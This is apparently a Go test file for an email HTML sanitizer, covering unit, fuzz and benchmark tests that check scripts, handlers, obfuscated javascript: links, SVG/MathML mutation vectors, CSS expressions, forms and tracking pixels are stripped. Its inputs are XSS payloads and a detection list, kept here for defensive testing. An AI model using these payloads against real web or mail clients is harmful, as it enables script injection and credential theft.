package mail

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// body is what SanitizeHTML makes of a source inside of its wrapper.
func body(t *testing.T, source string, o SanitizeOptions) string {
	t.Helper()
	safe := SanitizeHTML(source, o).HTML
	checkSafe(t, source, safe, o)
	if safe == "" {
		return ""
	}
	inner, ok := strings.CutPrefix(safe, `<div class="mail-body">`)
	if !ok {
		t.Fatalf("SanitizeHTML(%.2000q) = %.2000q: not in its wrapper", source, safe)
	}
	return strings.TrimSuffix(inner, "</div>")
}

// checkSafe judges a result by what a browser makes of it, on rules of its own:
// a small list of what may be there, and whatever could load or run must not.
func checkSafe(t *testing.T, source, safe string, o SanitizeOptions) {
	t.Helper()
	document, err := html.Parse(strings.NewReader(safe))
	if err != nil {
		t.Fatalf("SanitizeHTML(%.2000q) = %.2000q: %v", source, safe, err)
	}
	for node := range document.Descendants() {
		switch node.Type {
		case html.TextNode, html.DocumentNode:
		case html.ElementNode:
			for _, problem := range elementProblems(node, o) {
				t.Errorf("SanitizeHTML(%.2000q) = %.2000q: %s", source, safe, problem)
			}
		default:
			t.Errorf("SanitizeHTML(%.2000q) = %.2000q: has a node of type %d", source, safe, node.Type)
		}
	}
	if again := SanitizeHTML(safe, o).HTML; again != safe && o.InlineURL == nil {
		t.Errorf("SanitizeHTML(%.2000q) is not stable:\n once %.2000q\ntwice %.2000q", source, safe, again)
	}
}

func elementProblems(node *html.Node, o SanitizeOptions) (problems []string) {
	const expected = ` html head body style a abbr acronym address area article aside b bdi bdo big blockquote br caption center cite code col
		colgroup dd del details dfn dir div dl dt em fieldset figcaption figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd
		legend li main map mark menu nav nobr ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table tbody td
		tfoot th thead tr tt u ul var wbr `
	if node.Namespace != "" || !strings.Contains(strings.Join(strings.Fields(expected), " ")+" body html style", node.Data) {
		problems = append(problems, "element "+node.Data)
	}
	css := ""
	for _, a := range node.Attr {
		value := strings.ToLower(a.Val)
		switch a.Key {
		case "href":
			if !strings.HasPrefix(value, "http://") && !strings.HasPrefix(value, "https://") && !strings.HasPrefix(value, "mailto:") && !strings.HasPrefix(value, "tel:") {
				problems = append(problems, "href "+a.Val)
			}
		case "src":
			if !strings.HasPrefix(value, "cid:") && !strings.HasPrefix(value, "data:image/") && !strings.HasPrefix(value, "/inline/") &&
				!(o.RemoteImages && strings.HasPrefix(value, "https://")) {
				problems = append(problems, "src "+a.Val)
			}
		case "background":
			if !o.RemoteImages || !strings.HasPrefix(value, "https://") {
				problems = append(problems, "background "+a.Val)
			}
		case "style":
			css = value
		case "class", "id", "name":
			for name := range strings.FieldsSeq(a.Val) {
				if name != "mail-body" && !strings.HasPrefix(name, "m-") {
					problems = append(problems, "name "+name)
				}
			}
		case "srcset", "action", "formaction", "ping", "poster", "srcdoc", "data", "content", "http-equiv", "xlink:href", "is", "slot", "form", "hidden":
			problems = append(problems, "attribute "+a.Key)
		default:
			if strings.HasPrefix(a.Key, "on") || strings.ContainsAny(a.Key, ":<>\"'=") {
				problems = append(problems, "attribute "+a.Key)
			}
		}
	}
	if node.Data == "style" && node.FirstChild != nil {
		css = strings.ToLower(node.FirstChild.Data)
		for line := range strings.Lines(css) {
			if !strings.HasPrefix(line, ".mail-body") && !strings.HasPrefix(line, "@media ") && line != "}\n" && line != "\n" {
				problems = append(problems, "rule out of scope: "+line)
			}
		}
	}
	for _, word := range []string{"\\", "<", "expression", "javascript", "@import", "behavior", "position:", "fixed", "-moz-binding", "/*"} {
		if strings.Contains(css, word) && !strings.Contains(css, "url(") {
			problems = append(problems, "style with "+word)
		}
	}
	if strings.Contains(css, "url(") && (!o.RemoteImages || strings.Count(css, "url(") != strings.Count(css, "url('https://")) {
		problems = append(problems, "style with url: "+css)
	}
	return problems
}

func TestSanitizeRemovesWhatActs(t *testing.T) {
	for _, c := range []struct{ name, html, want string }{
		{"script", `a<script>alert(1)</script>b`, `ab`},
		{"handler", `<p onclick="x()" onmouseover=y>a</p>`, `<p>a</p>`},
		{"javascript link", `<a href="JaVa&#115;cript:x()">a</a>`, `<a>a</a>`},
		{"scheme broken by a tab", "<a href=' java\tscript:x()'>a</a>", `<a>a</a>`},
		{"scheme behind a control character", "<a href='\x01javascript:x()'>a</a>", `<a>a</a>`},
		{"data link", `<a href="data:text/html,<script>x()</script>">a</a>`, `<a>a</a>`},
		{"frame", `<iframe src="https://evil.example"><p>x</p></iframe>b`, `b`},
		{"object and embed", `<object data="x.swf"><embed src="x.swf">a</object>`, `a`},
		{"SVG with script", `<svg onload=x()><script>x()</script><a xlink:href="javascript:x()">a</a></svg>`, `<a>a</a>`},
		{"MathML with markup in its text", `<math><mtext><table><mglyph><style><img src=x onerror=x()></style></table></math>a`, `<table></table>a`},
		{"markup that closes a comment", `<!--><img src=x onerror=x()>-->`, `<img/>--&gt;`},
		{"markup in noscript", `<noscript><p title="</noscript><img src=x onerror=x()>">a</p></noscript>`, `<p title="&lt;/noscript&gt;&lt;img src=x onerror=x()&gt;">a</p>`},
		{"markup in a title", `<title><img src=x onerror=x()></title>a`, `a`},
		{"markup in a textarea", `<textarea><b>a</b></textarea>`, ` &lt;b&gt;a&lt;/b&gt; `},
		{"xmp", `<xmp><b>a</b></xmp>`, `<pre>&lt;b&gt;a&lt;/b&gt;</pre>`},
		{"form", `<form action="https://evil.example"><input name=password><button>a</button></form>`, `   a  `},
		{"meta refresh and base target", `<meta http-equiv=refresh content="0;url=https://evil.example"><base target=_top>a`, `a`},
		{"link and prefetch", `<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/x">a`, `a`},
		{"media", `<video poster="https://evil.example/x.jpg"><source src="https://evil.example/x.mp4">a</video><audio src=x>b</audio>`, `ab`},
		{"link that pings", `<a href="https://example.com/" ping="https://evil.example/">a</a>`, link("https://example.com/", "a")},
		{"expression", `<p style="width: expression(x()); color: red">a</p>`, `<p style="color: red">a</p>`},
		{"escape in a style", `<p style="background: \75rl(https://evil.example/x); color: red">a</p>`, `<p style="color: red">a</p>`},
		{"cover", `<div style="position: fixed; top: 0; left: 0; z-index: 9; width: 100%">a</div>`, `<div style="width: 100%">a</div>`},
		{"pulled over its neighbour", `<div style="margin: -500px 0; margin-top: calc(0px - 9px); padding: 1px">a</div>`, `<div style="padding: 1px">a</div>`},
		{"names of the page", `<p id="send" class="button primary" name="x">a</p>`, `<p id="m-send" class="m-button m-primary">a</p>`},
		{"template", `<template><img src=x onerror=x()></template>`, `<img/>`},
		{"unclosed tag", `a<img src="x`, `a`},
		{"NUL in a name", "<scr\x00ipt>x()</scr\x00ipt><img sr\x00c=x>", `x()<img/>`},
		{"invalid UTF-8", "a\xff<b\xfe>c</b>", "a\uFFFDc"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := body(t, c.html, SanitizeOptions{}); got != c.want {
				t.Errorf("SanitizeHTML(%q)\n got %q\nwant %q", c.html, got, c.want)
			}
			checkSafe(t, c.html, SanitizeHTML(c.html, SanitizeOptions{RemoteImages: true}).HTML, SanitizeOptions{RemoteImages: true})
		})
	}
}

func link(target, text string) string {
	return `<a href="` + target + `" title="` + target + `" rel="noopener noreferrer nofollow" target="_blank">` + text + `</a>`
}

func TestSanitizeKeepsTheLook(t *testing.T) {
	for _, c := range []struct{ name, html, want string }{
		{"layout attributes", `<table width="600" cellpadding=0 border=0 bgcolor="#EEEEEE" align=center role=presentation><tbody><tr><td valign=top colspan=2 nowrap>a</td></tr></tbody></table>`,
			`<table width="600" cellpadding="0" border="0" bgcolor="#EEEEEE" align="center" role="presentation"><tbody><tr><td valign="top" colspan="2" nowrap="">a</td></tr></tbody></table>`},
		{"inline styles", `<p style="COLOR:#333;font-family:'Meiryo UI',メイリオ,sans-serif;padding:4px 8px;border-left:solid 1px rgba(0,0,0,.2);mso-line-height-rule:exactly">a</p>`,
			`<p style="color: #333; font-family: &#39;Meiryo UI&#39;, メイリオ, sans-serif; padding: 4px 8px; border-left: solid 1px rgba(0, 0, 0, .2)">a</p>`},
		{"priority and functions", `<p style="width:calc(100% - 10px) !important;background:linear-gradient(to right,#fff 0%,#000 100%)">a</p>`,
			`<p style="width: calc(100% - 10px) !important; background: linear-gradient(to right, #fff 0%, #000 100%)">a</p>`},
		{"old fonts", `<font face="ＭＳ ゴシック" color=red size="+1">a</font>`, `<font color="red" face="ＭＳ ゴシック" size="+1">a</font>`},
		{"quotation", `<blockquote type="cite" cite="mid:x">a</blockquote>`, `<blockquote type="cite">a</blockquote>`},
		{"image without a source", `<img alt="Logo" width=120 height=40 src="logo.png">`, `<img alt="Logo" width="120" height="40"/>`},
		{"data image", `<img src="data:image/PNG;base64,iVBO Rw0=">`, `<img src="data:image/png;base64,iVBORw0="/>`},
		{"data image of another kind", `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img/>`},
		{"image map", `<img usemap="#m" alt=""><map name="m"><area shape=rect coords="0,0,9,9" href="https://example.com/"></map>`,
			`<img usemap="#m-m" alt=""/><map name="m-m"><area shape="rect" coords="0,0,9,9" href="https://example.com/" title="https://example.com/" rel="noopener noreferrer nofollow" target="_blank"/></map>`},
		{"hidden", `<p hidden style="color:red">a</p>`, `<p style="color: red; display: none">a</p>`},
		{"Word's own elements", `<p class=MsoNormal>a<o:p>&nbsp;</o:p></p>`, "<p class=\"m-MsoNormal\">a\u00a0</p>"},
		{"preformatted", "<pre>\n\n a</pre>", "<pre>\n\n a</pre>"},
		{"link by protocol of the page", `<a href="//example.com/a b">a</a>`, link("https://example.com/a%20b", "a")},
		{"relative link with a base", `<base href="https://example.com/x/"><a href="y?z=1">a</a>`, link("https://example.com/x/y?z=1", "a")},
		{"relative link without", `<a href="/admin">a</a><a href="#top">b</a>`, `<a>a</a><a>b</a>`},
		{"signed link", `<a href="https://example.com/?a=1;b=%2F&amp;sig=x+y%3D">a</a>`, link("https://example.com/?a=1;b=%2F&amp;sig=x+y%3D", "a")},
		{"mail and telephone", `<a href="mailto:a@example.com?subject=Hi">a</a><a href="tel:+81-3-1234">b</a>`, link("mailto:a@example.com?subject=Hi", "a") + link("tel:+81-3-1234", "b")},
		{"nested links", `<a href="https://example.com/1">a<a href="https://example.com/2">b</a></a>`, link("https://example.com/1", "a") + link("https://example.com/2", "b")},
		{"text out of a table", `<table>a<tr><td>b</table>`, `a<table><tbody><tr><td>b</td></tr></tbody></table>`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := body(t, c.html, SanitizeOptions{}); got != c.want {
				t.Errorf("SanitizeHTML(%q)\n got %q\nwant %q", c.html, got, c.want)
			}
		})
	}
}

func TestSanitizeStylesheet(t *testing.T) {
	source := `<html><head><style>
<!--
@font-face {font-family:"MS Gothic"; src:url(https://evil.example/f.woff)}
@import url("https://evil.example/x.css");
p.MsoNormal, li.MsoNormal {margin:0mm; font-size:10.5pt; font-family:"Yu Gothic",sans-serif}
-->
/* a comment { */ body { background: #fafafa url(https://evil.example/x.png) no-repeat }
a:hover > b, a[href^="x"], #outlook a { color : RED ; background:url(x) }
html ~ div, body + p, .x + , > .y { color: red }
.btn::after { content: "x" } .z { position:fixed; color:blue }
@media only screen and (max-width: 600px) { .btn { width: 100% !important } body .col { display:block } }
@media (prefers-color-scheme: dark) { p { color: white } }
@keyframes spin { from { width:0 } }
</style><style media="print">.no-print{display:none}</style></head><body class="home" bgcolor=ffffff text="#333" style="margin:0">x</body></html>`
	want := `<style>
.mail-body p.m-MsoNormal, .mail-body li.m-MsoNormal { font-size: 10.5pt; font-family: 'Yu Gothic', sans-serif }
.mail-body { background: #fafafa no-repeat }
.mail-body a:hover > b, .mail-body #m-outlook a { color: RED }
.mail-body > .m-y { color: red }
.mail-body .m-z { color: blue }
@media only screen and (max-width: 600px) {
.mail-body .m-btn { width: 100% !important }
.mail-body .m-col { display: block }
}
@media print {
.mail-body .m-no-print { display: none }
}
</style><div class="mail-body m-home" style="color: #333; background-color: #ffffff; margin: 0">x</div>`
	want = strings.Replace(want, "{ font-size: 10.5pt", "{ margin: 0mm; font-size: 10.5pt", 1)
	safe := SanitizeHTML(source, SanitizeOptions{})
	checkSafe(t, source, safe.HTML, SanitizeOptions{})
	if safe.HTML != want {
		t.Errorf("got\n%s\nwant\n%s", safe.HTML, want)
	}
	if safe.RemoteImages != 1 {
		t.Errorf("RemoteImages = %d, want 1", safe.RemoteImages)
	}
}

func TestSanitizeRemoteImages(t *testing.T) {
	source := `<img src="http://example.com/a.png" srcset="https://example.com/b.png 2x" alt="A">` +
		`<table background="//example.com/c.png"></table><p style="background-image:url( 'https://example.com/d (1).png' )">x</p>` +
		`<img src="https://example.com/open.gif" width="1" height="1"><img src="https://example.com/t.gif" style="display:none">`
	blocked := SanitizeHTML(source, SanitizeOptions{})
	checkSafe(t, source, blocked.HTML, SanitizeOptions{})
	if blocked.RemoteImages != 3 || blocked.Trackers != 2 || strings.Contains(blocked.HTML, "example.com") {
		t.Errorf("blocked: %d images, %d trackers, %s", blocked.RemoteImages, blocked.Trackers, blocked.HTML)
	}
	shown := SanitizeHTML(source, SanitizeOptions{RemoteImages: true})
	checkSafe(t, source, shown.HTML, SanitizeOptions{RemoteImages: true})
	want := `<div class="mail-body"><img src="https://example.com/a.png" referrerpolicy="no-referrer" alt="A"/>` +
		`<table background="https://example.com/c.png"></table><p style="background-image: url(&#39;https://example.com/d%20%281%29.png&#39;)">x</p></div>`
	if shown.HTML != want || shown.RemoteImages != 3 || shown.Trackers != 2 {
		t.Errorf("shown: %d images, %d trackers\n got %s\nwant %s", shown.RemoteImages, shown.Trackers, shown.HTML, want)
	}
}

// TestSanitizeTrackers leaves out images that are there to be fetched and not to
// be seen, and no others.
func TestSanitizeTrackers(t *testing.T) {
	for _, source := range []string{
		`<img src="https://a.example/x.gif" width=1 height=1>`,
		`<img src="https://a.example/x.gif" style="width:1px;height:1px">`,
		`<img src="https://a.example/x.gif" style="max-width:1px!important;max-height:1px!important" width="600" height="400">`,
		`<img src="https://a.example/x.gif" height="0">`,
		`<img src="https://a.example/x.gif" hidden>`,
		`<img src="https://a.example/x.gif" style="opacity:0">`,
		`<img src="https://a.example/x.gif" style="display:none!important">`,
		`<div style="display:none"><p><img src="https://a.example/x.gif"></p></div>`,
		`<div hidden><img src="https://a.example/x.gif"></div>`,
		`<img src="https://u1.ct.sendgrid.example/wf/open?upn=abc">`,
		`<img src="https://list.example/track/open.php?u=1&id=2">`,
		`<img src="https://a.example/e/open.aspx?id=7" alt="">`,
		`<img src="https://a.example/pixel.gif?m=1">`,
		`<img src="https://a.example/tracking-pixel/">`,
	} {
		safe := SanitizeHTML("<p>x</p>"+source, SanitizeOptions{RemoteImages: true})
		if safe.Trackers != 1 || safe.RemoteImages != 0 || strings.Contains(safe.HTML, "a.example/") {
			t.Errorf("%s: %d trackers, %d images: %s", source, safe.Trackers, safe.RemoteImages, safe.HTML)
		}
	}
	for _, source := range []string{
		`<img src="https://a.example/logo.png">`,
		`<img src="https://a.example/line.gif" width="600" height="1">`,
		`<img src="https://a.example/opening-hours.png">`,
		`<img src="https://a.example/pixel.gif" width="300" height="200">`,
		`<img src="https://a.example/pixel/photo.jpg">`,
		`<img src="https://a.example/x.png" style="opacity:0.8;max-width:100%">`,
		`<img src="https://a.example/open" width="100">`,
	} {
		if safe := SanitizeHTML(source, SanitizeOptions{RemoteImages: true}); safe.Trackers != 0 || safe.RemoteImages != 1 {
			t.Errorf("%s: %d trackers, %d images: %s", source, safe.Trackers, safe.RemoteImages, safe.HTML)
		}
	}
}

func TestSanitizeInlineImages(t *testing.T) {
	var asked []string
	options := SanitizeOptions{InlineURL: func(id string) string {
		asked = append(asked, id)
		if id == "gone@x" {
			return ""
		}
		return "/inline/7?a=1&b=2"
	}}
	source := `<p title='" src="cid:no"'>&quot; src="cid:no"</p><img src="cid:logo%20%25@x" alt=a><img src=cid:gone@x>`
	want := `<p title="&#34; src=&#34;cid:no&#34;">&#34; src=&#34;cid:no&#34;</p><img src="/inline/7?a=1&amp;b=2" alt="a"/><img/>`
	if got := body(t, source, options); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if len(asked) < 2 || asked[0] != "logo %@x" || asked[1] != "gone@x" {
		t.Errorf("asked for %q", asked)
	}
	if got := body(t, source, SanitizeOptions{}); !strings.Contains(got, `src="cid:logo%20%25@x"`) {
		t.Errorf("without InlineURL: %s", got)
	}
}

func TestSanitizeLinks(t *testing.T) {
	safe := SanitizeHTML(`<a href="https://Evil.Example.com/x"> https://bank.co.jp/login </a><a href="https://click.shop.co.jp/r?u=1">www.shop.co.jp</a>
		<a href="https://例え.jp/">例え.jp</a><a href="https://docs.example.org/readme">readme.md</a><a href="https://example.net/">Version 2.0</a>`, SanitizeOptions{})
	want := []Link{
		{URL: "https://evil.example.com/x", Text: "https://bank.co.jp/login", Misleading: true, Shown: "bank.co.jp", Host: "evil.example.com"},
		{URL: "https://click.shop.co.jp/r?u=1", Text: "www.shop.co.jp"},
		{URL: "https://xn--r8jz45g.jp/", Text: "例え.jp"},
		{URL: "https://docs.example.org/readme", Text: "readme.md"},
		{URL: "https://example.net/", Text: "Version 2.0"},
	}
	if len(safe.Links) != len(want) {
		t.Fatalf("links %+v", safe.Links)
	}
	for i, link := range safe.Links {
		if link != want[i] {
			t.Errorf("link %d: got %+v, want %+v", i, link, want[i])
		}
	}
}

func TestSanitizeShowsTooLargeMailAsText(t *testing.T) {
	source := "<p>" + strings.Repeat("<b><i>", 20) + strings.Repeat("<p>line</p>", 20_000)
	safe := SanitizeHTML(source, SanitizeOptions{}).HTML
	if !strings.HasPrefix(safe, `<div class="mail-body"><pre style="white-space: pre-wrap">`) || strings.Count(safe, "line") != 20_000 {
		t.Errorf("%d bytes, %d lines: %.100s", len(safe), strings.Count(safe, "line"), safe)
	}
	checkSafe(t, "too large", safe, SanitizeOptions{})
}

func FuzzSanitizeHTML(f *testing.F) {
	for _, seed := range []string{
		`<table><a href="https://a.example/"><tr><td><b><p>x</b><p>y</table>`,
		`<style>@media print{p{color:red}} .x>y{}</style><body bgcolor=red><div class=mail-body>x</div>`,
		`<svg><style><!--</style><img title="--><img src=x onerror=x()>">`,
		`<p style="font:'a' 1px/2 url(x);background:url(https://a.example/x)">`,
		`<img src=cid:x><img src=data:image/png;base64,AA==><select><option><pre>` + "\n\n",
	} {
		f.Add(seed, false)
		f.Add(seed, true)
	}
	f.Fuzz(func(t *testing.T, source string, remoteImages bool) {
		options := SanitizeOptions{RemoteImages: remoteImages}
		checkSafe(t, source, SanitizeHTML(source, options).HTML, options)
	})
}

func FuzzTextFromHTML(f *testing.F) {
	f.Add("<p>a<blockquote>b<ul><li>c</blockquote><table><td>d<td>e</table><a href=https://x.example>f")
	f.Add("<pre>\n a\t</pre><br>\u00a0<div style='display:none'>x")
	f.Fuzz(func(t *testing.T, source string) {
		text := TextFromHTML(source)
		if strings.ToValidUTF8(text, "") != text || strings.ContainsAny(text, "\x00\r") || strings.Contains(text, " \n") {
			t.Errorf("TextFromHTML(%q) = %q", source, text)
		}
	})
}

func BenchmarkSanitizeHTML(b *testing.B) {
	source := strings.Repeat(`<table width="600"><tr><td style="color:#333;padding:4px"><p class=x>お世話になっております。 <a href="https://example.com/?a=1">example</a></p></td></tr></table>`, 200)
	b.SetBytes(int64(len(source)))
	for b.Loop() {
		SanitizeHTML(source, SanitizeOptions{})
	}
}

func BenchmarkTextFromHTML(b *testing.B) {
	source := strings.Repeat(`<table width="600"><tr><td style="color:#333;padding:4px"><p class=x>お世話になっております。 <a href="https://example.com/?a=1">example</a></p></td></tr></table>`, 200)
	b.SetBytes(int64(len(source)))
	for b.Loop() {
		TextFromHTML(source)
	}
}
